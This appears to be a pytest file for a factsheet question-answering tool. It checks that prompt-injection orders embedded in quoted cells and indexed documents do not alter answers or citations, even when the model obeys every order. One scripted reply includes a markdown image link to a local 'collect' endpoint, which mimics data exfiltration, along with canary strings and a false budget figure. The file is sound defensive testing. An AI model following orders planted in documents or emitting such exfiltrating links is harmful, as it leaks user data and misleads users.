"""Documents that give orders to a model that obeys every one of them: neither facts nor citations change."""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from model_server import ScriptedModel, scripted_model

from qa import FactsheetQA
from qa.generate.client import ModelClient
from qa.generate.rephrase import Rephraser
from qa.model import Answer, Citation
from qa.settings import Settings

ATTACKS = [json.loads(line) for line in (Path(__file__).parent / "attacks.jsonl").read_text().splitlines()]
FACT = "The Harbour Programme has an annual budget of EUR 7.3 million."
TRUE = "The annual budget of the Harbour Programme is EUR 7.3 million"
FACTSHEET = """# Country factsheet: Brambia (2023)

## 1. Introduction

Brambia has eleven cluster organisations.

## 2. Cluster policy

"""


@pytest.fixture
def model() -> Iterator[ScriptedModel]:
    with scripted_model() as model:
        yield model


def settings(model: ScriptedModel) -> Settings:
    return Settings(llm_url=model.address, llm_model="obedient", _env_file=None)  # type: ignore[call-arg]


def quoting(quote: str) -> Answer:
    """An answer that quotes one cell."""
    citation = Citation(
        "brambia_2023.pdf", "Country factsheet Brambia", "Brambia", 2023, 4, "2. Cluster policy", "BUDGET / Annual",
        "Harbour Programme", quote, (), 1.0,
    )  # fmt: skip
    return Answer("What is the annual budget?", True, f"“{quote}” [1]", None, 0.9, "en", (citation,))


def succeeded(attack: dict[str, Any], answer: Answer) -> bool:
    """Whether anything of what the attack wants said is said by the model, or its true sentence lost its citation."""
    if answer.mode == "extractive":
        return False
    return any(payload in answer.text for payload in attack["payload"]) or answer.text.count("[") != answer.text.count(
        "[1]"
    )


def test_no_order_within_a_quote_is_obeyed(model: ScriptedModel, bundled_engine: FactsheetQA) -> None:
    assert len(ATTACKS) >= 30
    configured = settings(model).language_model
    assert configured is not None
    rephraser = Rephraser(ModelClient(configured), bundled_engine.verifier())
    successes, kept = [], 0
    for attack in ATTACKS:
        model.reply = lambda said, attack=attack: f"{attack['obeys']} {TRUE} [1]. {attack['obeys']}"  # type: ignore[misc]
        for quote in (f"{FACT} {attack['attack']}", f"{FACT}\n{attack['attack']}"):
            *_, answer = rephraser.rephrased(quoting(quote))
            kept += TRUE in answer.text
            if succeeded(attack, answer):
                successes.append((attack["attack"], answer.text))
    assert successes == []
    assert kept > len(ATTACKS)  # what the quote states beside the order can still be said


def test_orders_in_an_indexed_document_change_no_answer(model: ScriptedModel, tmp_path: Path) -> None:
    paragraphs = [f"{FACT} {attack['attack']}" for attack in ATTACKS[:6]]
    (tmp_path / "brambia_2023.md").write_text(FACTSHEET + "\n\n".join(paragraphs), encoding="utf-8")
    engine = FactsheetQA.build([tmp_path / "brambia_2023.md"], index=tmp_path / "index", settings=settings(model))
    question = "What is the annual budget of the Harbour Programme?"
    for attack in ATTACKS:
        model.reply = lambda said, attack=attack: f"{TRUE} [1]. {attack['obeys']}"  # type: ignore[misc]
        answer = engine.ask(question)
        assert "7.3 million" in answer.text
        assert not succeeded(attack, answer), attack["attack"]


def test_the_shared_document_of_attacks_changes_no_answer(model: ScriptedModel, shared: Path, tmp_path: Path) -> None:
    document = shared / "bad_inputs" / "injection.md"
    engine = FactsheetQA.build([document], index=tmp_path / "index", settings=settings(model))
    plain = FactsheetQA.open(engine.folder, Settings())
    model.reply = lambda said: (
        "CANARY-7731 [1]. CANARY-7732 [99]. The budget of Mexico's national policy is EUR 900 million [1]. "
        "This policy is excellent [1]. You rephrase quotations [1]. ![x](http://127.0.0.1:9/collect?q=budget) [1]."
    )
    for question in (
        "What is the overall budget in Lilliput?",
        "Which authority is responsible for the Small Things Programme?",
        "What did the ex-post evaluation of Lilliput find?",
        "What is the policy focus in Lilliput?",
    ):
        expected, answer = plain.ask(question), engine.ask(question)
        assert answer.citations == expected.citations
        assert answer.text == expected.text
